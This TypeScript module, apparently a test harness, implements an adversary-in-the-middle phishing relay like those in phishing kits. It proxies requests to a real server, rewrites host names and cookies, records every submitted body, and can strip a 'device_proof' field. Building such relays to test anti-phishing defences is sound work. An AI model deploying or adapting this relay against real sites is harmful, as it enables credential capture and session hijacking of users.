/**
 * A page in between, as kits for phishing build it: it passes every request on to the real server under the real server's
 * name, and every answer back under its own, cookies and all.
 */
import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, type IncomingMessage, request, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export type Relay = {
  readonly origin: string;
  /** Takes out of what passes what the browser signed. */
  strips: boolean;
  /** What was typed into it. */
  readonly caught: readonly string[];
  stop(): Promise<void>;
};

/** Starts one in front of the server at `target`. */
export async function startRelay(target: string): Promise<Relay> {
  const caught: string[] = [];
  const relay = { origin: '', strips: false, caught, stop: async () => {} };
  const server = createServer((incoming, outgoing) => {
    pass(incoming, outgoing).catch(() => outgoing.destroy());
  });

  async function pass(incoming: IncomingMessage, outgoing: ServerResponse): Promise<void> {
    const body = await read(incoming);
    if (body.length > 0) caught.push(body.toString());
    const sent = relay.strips ? Buffer.from(body.toString().replace(/&?device_proof=[^&]*/, '')) : body;
    const asked = request(`${target}${incoming.url ?? '/'}`, {
      method: incoming.method ?? 'GET',
      headers: { ...renamed(incoming.headers, relay.origin, target), 'content-length': String(sent.length) },
    });
    asked.end(sent);
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    const given = await read(answer);
    const isText = /text|javascript/.test(answer.headers['content-type'] ?? '');
    const shown = isText ? Buffer.from(given.toString().replaceAll(target, relay.origin)) : given;
    outgoing.writeHead(answer.statusCode ?? 502, {
      ...renamed(answer.headers, target, relay.origin),
      'content-length': String(shown.length),
    });
    outgoing.end(shown);
  }

  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  relay.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  relay.stop = async () => {
    server.closeAllConnections();
    server.close();
    await once(server, 'close');
  };
  return relay;
}

/** The headers as the other side expects them: every mention of the one name is the other's. */
function renamed(headers: IncomingHttpHeaders, from: string, to: string): Record<string, string | string[]> {
  const [host, other] = [new URL(from).host, new URL(to).host];
  const swap = (text: string) => text.replaceAll(from, to).replaceAll(host, other);
  const { 'transfer-encoding': _, ...kept } = headers;
  return Object.fromEntries(
    Object.entries(kept).flatMap(([name, value]) =>
      value === undefined ? [] : [[name, Array.isArray(value) ? value.map(swap) : swap(value)]],
    ),
  );
}

async function read(stream: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}
